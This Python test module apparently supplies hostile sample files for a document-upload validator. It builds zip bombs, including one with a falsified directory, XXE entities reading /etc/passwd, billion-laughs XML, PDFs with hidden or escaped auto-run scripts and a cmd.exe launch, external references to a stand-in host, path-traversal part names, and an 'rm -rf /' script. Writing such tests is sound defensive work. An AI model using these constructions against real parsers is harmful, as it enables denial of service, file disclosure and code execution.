"""Files that somebody made to do harm, or that no reader should meet; small builders for each."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.exchange.documents.samples import (
    WORDS,
    chunk,
    docx,
    jpeg,
    pdf,
    pdf_stream,
    png,
    repacked,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="x">&x;</w:document>"""
LAUGHS = (
    b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w>&b;</w>"""
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><sheetData>{rows}</sheetData></worksheet>'
)
CORNERS = (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
)


def document_with(name, content):
    """A document with one part more."""
    return repacked(docx(), added=[(name, content)])


def document_reaching(kind, target):
    relations = RELATIONS.format(kind=kind, target=target)
    return repacked(docx(), changed={"word/_rels/document.xml.rels": relations})


def macro_document():
    return document_with("word/vbaProject.bin", OLE)


def macro_workbook_renamed():
    """An XLSM under another name: only the list of types tells."""
    kind = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = b'<Types><Override PartName="/xl/workbook.xml" ContentType="%s"/></Types>' % kind
    return repacked(xlsx(), changed={"[Content_Types].xml": types})


def zip_bomb():
    """Ten thousand times as large as it looks."""
    return document_with("word/media/big.xml", b"\x00" * 30_000_000)


def lying_bomb():
    """The directory says a hundred bytes, the part unpacks to twenty million."""
    packed = bytearray(document_with("word/big.xml", b" " * 20_000_000))
    place = packed.rfind(b"PK\x01\x02")
    while b"word/big.xml" not in packed[place : place + 80]:
        place = packed.rfind(b"PK\x01\x02", 0, place)
    struct.pack_into("<L", packed, place + 24, 100)
    return bytes(packed)


def overlapping_parts():
    """Two names for the same bytes, as bombs do that grow quadratically."""
    packed = bytearray(
        repacked(docx(), added=[("word/a.xml", b"x" * 90), ("word/b.xml", b"y" * 90)])
    )
    first = packed.find(b"PK\x03\x04", packed.find(b"word/a.xml") - 40)
    second = packed.rfind(b"word/b.xml") - 46
    struct.pack_into("<L", packed, second + 42, first)
    return bytes(packed)


def many_parts(number=2_500):
    return repacked(docx(), added=[(f"word/media/{each}.xml", b"") for each in range(number)])


def locked_archive():
    """The mark of a password on every part."""
    packed = bytearray(docx())
    place = packed.find(b"PK\x01\x02")
    while place >= 0:
        packed[place + 8] |= 1
        place = packed.find(b"PK\x01\x02", place + 4)
    return bytes(packed)


def locked_office_file():
    return OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


def plain_zip():
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("run.exe", b"MZ")
    return file.getvalue()


def utf16_entity():
    return repacked(docx(), changed={"word/document.xml": ENTITY.decode().encode("utf-16")})


def far_corners():
    sheet = SHEET.format(rows=CORNERS)
    return repacked(xlsx(), changed={"xl/worksheets/sheet1.xml": sheet})


def scripted_pdf():
    return pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def escaped_script_pdf():
    """The name written so that a search for it finds nothing."""
    return pdf(catalog="/OpenAction << /S /J#61va#53cript /JS (1) >>")


def packed_script_pdf(name="/ObjStm"):
    """The script in a stream of objects, where no search in the file finds it."""
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return pdf(objects=[pdf_stream(f"/Type {name} /N 1 /First 4 /Filter /FlateDecode", packed)])


def packed_elsewise_pdf():
    hidden = b"39203020" + b"3C3C2F532F4A6176615363726970743E3E>"
    return pdf(objects=[pdf_stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", hidden)])


def object_bomb_pdf():
    packed = zlib.compress(b"1 0 " + b" " * 70_000_000, 9)
    return pdf(objects=[pdf_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed)])


def pdf_with_file():
    names = "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"
    file = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    return pdf(catalog=names, objects=[file, pdf_stream("/Type /EmbeddedFile", b"MZ")])


def locked_pdf():
    return pdf(trailer="/Encrypt << /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>")


def pdf_and_zip():
    return pdf() + plain_zip()


def docx_and_pdf():
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", pdf())
        with zipfile.ZipFile(BytesIO(docx())) as good:
            for name in good.namelist():
                archive.writestr(name, good.read(name))
    return file.getvalue()


def page_in_picture():
    return png(extra=chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>"))


def truncated(content, share=0.6):
    return content[: int(len(content) * share)]


# What it is, the name it comes under, how to make it, and why it is not taken.
HOSTILE = [
    # not what the name says
    ("empty", "a.pdf", bytes, "empty"),
    ("only spaces", "a.txt", lambda: b" \r\n\t\n", "empty"),
    ("no extension", "statement", pdf, "kind_not_taken"),
    ("program", "a.exe", lambda: b"MZ" + bytes(200), "kind_not_taken"),
    ("double extension", "a.pdf.exe", pdf, "kind_not_taken"),
    ("turned name", "a\u202efdp.exe", pdf, "kind_not_taken"),
    ("drawing", "a.svg", lambda: SVG, "kind_not_taken"),
    ("macro extension", "a.docm", docx, "kind_not_taken"),
    ("program as PDF", "a.pdf", lambda: b"MZ" + bytes(200), "not_what_it_says"),
    ("drawing as PNG", "a.png", lambda: SVG, "not_what_it_says"),
    ("drawing as page", "a.html", lambda: SVG, "not_what_it_says"),
    ("PDF as text", "a.txt", pdf, "not_what_it_says"),
    ("PNG as JPEG", "a.jpg", png, "not_what_it_says"),
    ("workbook as document", "a.docx", xlsx, "not_what_it_says"),
    ("bare archive as document", "a.docx", plain_zip, "not_what_it_says"),
    ("old Word file as DOCX", "a.docx", lambda: OLE + bytes(600), "not_what_it_says"),
    ("script as text", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "not_what_it_says"),
    ("text as page", "a.html", lambda: WORDS.encode(), "not_what_it_says"),
    ("text as message", "a.eml", lambda: WORDS.encode(), "not_what_it_says"),
    ("header before PDF", "a.pdf", lambda: b"GIF89a;" + pdf(), "not_what_it_says"),
    # two kinds in one
    ("PDF and ZIP", "a.pdf", pdf_and_zip, "two_kinds"),
    ("DOCX and PDF", "a.docx", docx_and_pdf, "two_kinds"),
    ("PDF and page", "a.pdf", lambda: pdf(tail="<script>alert(1)</script>"), "two_kinds"),
    ("PDF and much more", "a.pdf", lambda: pdf(tail="x" * 5000), "two_kinds"),
    ("page behind PNG", "a.png", lambda: png(tail=b"<html>"), "two_kinds"),
    ("page in PNG", "a.png", page_in_picture, "two_kinds"),
    ("archive behind PNG", "a.png", lambda: png(tail=plain_zip()), "two_kinds"),
    ("page in JPEG", "a.jpg", lambda: jpeg(comment=b"<script>x</script>"), "two_kinds"),
    ("archive behind JPEG", "a.jpeg", lambda: jpeg(tail=plain_zip()), "two_kinds"),
    ("something before DOCX's end", "a.docx", lambda: docx() + b"x" * 9, "two_kinds"),
    # programs and actions
    ("macros in DOCX", "a.docx", macro_document, "macros"),
    ("XLSM renamed", "a.xlsx", macro_workbook_renamed, "macros"),
    (
        "old macro sheet",
        "a.xlsx",
        lambda: repacked(xlsx(), added=[("xl/macrosheets/sheet1.xml", b"<x/>")]),
        "macros",
    ),
    ("ActiveX", "a.docx", lambda: document_with("word/activeX/activeX1.bin", OLE), "macros"),
    ("PDF with script", "a.pdf", scripted_pdf, "scripts"),
    ("PDF with escaped script", "a.pdf", escaped_script_pdf, "scripts"),
    ("PDF with packed script", "a.pdf", packed_script_pdf, "scripts"),
    ("PDF with packed, escaped script", "a.pdf", lambda: packed_script_pdf("/Obj#53tm"), "scripts"),
    (
        "PDF that launches",
        "a.pdf",
        lambda: pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "scripts",
    ),
    ("PDF with XFA", "a.pdf", lambda: pdf(catalog="/AcroForm << /XFA [(a) 3 0 R] >>"), "scripts"),
    (
        "PDF that sends",
        "a.pdf",
        lambda: pdf(catalog="/OpenAction << /S /SubmitForm /F (http://x.example/) >>"),
        "scripts",
    ),
    # what hides inside
    ("object in DOCX", "a.docx", lambda: document_with("word/embeddings/o.bin", OLE), "embedded"),
    (
        "object under another name",
        "a.docx",
        lambda: document_with("word/media/i.png", OLE),
        "embedded",
    ),
    (
        "archive in DOCX",
        "a.docx",
        lambda: document_with("word/media/a.zip", plain_zip()),
        "embedded",
    ),
    (
        "archive under another name",
        "a.docx",
        lambda: document_with("word/x.xml", plain_zip()),
        "embedded",
    ),
    ("program in DOCX", "a.docx", lambda: document_with("word/media/a.exe", b"MZ"), "embedded"),
    ("file in PDF", "a.pdf", pdf_with_file, "embedded"),
    # what reaches out
    (
        "external entity",
        "a.docx",
        lambda: repacked(docx(), changed={"word/document.xml": ENTITY}),
        "reaches_out",
    ),
    ("external entity in UTF-16", "a.docx", utf16_entity, "reaches_out"),
    (
        "billion laughs",
        "a.xlsx",
        lambda: repacked(xlsx(), changed={"xl/sharedStrings.xml": LAUGHS}),
        "reaches_out",
    ),
    (
        "template from elsewhere",
        "a.docx",
        lambda: document_reaching("attachedTemplate", "https://x.example/t.dotm"),
        "reaches_out",
    ),
    (
        "picture from a share",
        "a.docx",
        lambda: document_reaching("image", "\\\\x.example\\a.png"),
        "reaches_out",
    ),
    (
        "link that is none",
        "a.docx",
        lambda: document_reaching("frame", "&#104;ttp://x.example/hyperlink"),
        "reaches_out",
    ),
    (
        "object by protocol",
        "a.docx",
        lambda: document_reaching("oleObject", "mhtml:http://x.example!x"),
        "reaches_out",
    ),
    # passwords
    ("locked DOCX", "a.docx", locked_archive, "encrypted"),
    ("locked Office file", "a.xlsx", locked_office_file, "encrypted"),
    ("locked PDF", "a.pdf", locked_pdf, "encrypted"),
    # bombs
    ("zip bomb", "a.docx", zip_bomb, "unpacks_too_far"),
    ("bomb with a lying directory", "a.docx", lying_bomb, "unpacks_too_far"),
    ("overlapping parts", "a.docx", overlapping_parts, "unpacks_too_far"),
    ("too many parts", "a.docx", many_parts, "unpacks_too_far"),
    ("bomb in a PDF", "a.pdf", object_bomb_pdf, "unpacks_too_far"),
    (
        "picture of a million by a million",
        "a.png",
        lambda: png(1_000_000, 1_000_000),
        "too_many_pixels",
    ),
    ("JPEG of 65535 by 65535", "a.jpg", lambda: jpeg(65_535, 65_535), "too_many_pixels"),
    ("cells in far corners", "a.xlsx", far_corners, "too_many_cells"),
    # paths
    (
        "part that climbs",
        "a.docx",
        lambda: document_with("../../etc/cron.d/x", b"x"),
        "unsafe_names",
    ),
    ("part with a drive", "a.docx", lambda: document_with("C:\\x.xml", b"x"), "unsafe_names"),
    ("part from the root", "a.docx", lambda: document_with("/etc/passwd", b"x"), "unsafe_names"),
    ("part twice", "a.docx", lambda: document_with("WORD/document.xml", b"<x/>"), "unsafe_names"),
    # damage
    ("half a DOCX", "a.docx", lambda: truncated(docx()), "damaged"),
    ("half a PDF", "a.pdf", lambda: truncated(pdf()), "damaged"),
    ("half a PNG", "a.png", lambda: truncated(png()), "damaged"),
    ("half a JPEG", "a.jpg", lambda: truncated(jpeg()), "damaged"),
    ("PNG with a wrong sum", "a.png", lambda: png().replace(b"IDAT", b"IDAX"), "damaged"),
    ("PDF without pages", "a.pdf", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "damaged"),
    ("PDF packed unusually", "a.pdf", packed_elsewise_pdf, "damaged"),
    # text that is none
    ("NUL in CSV", "a.csv", lambda: b"a,b\n1,\x002\n", "no_text"),
    ("noise as CSV", "a.csv", lambda: bytes(range(1, 32)) * 40, "no_text"),
    ("noise as text", "a.txt", lambda: b"\x01\x02\x03\x04\x81\x8d" * 200, "no_text"),
]
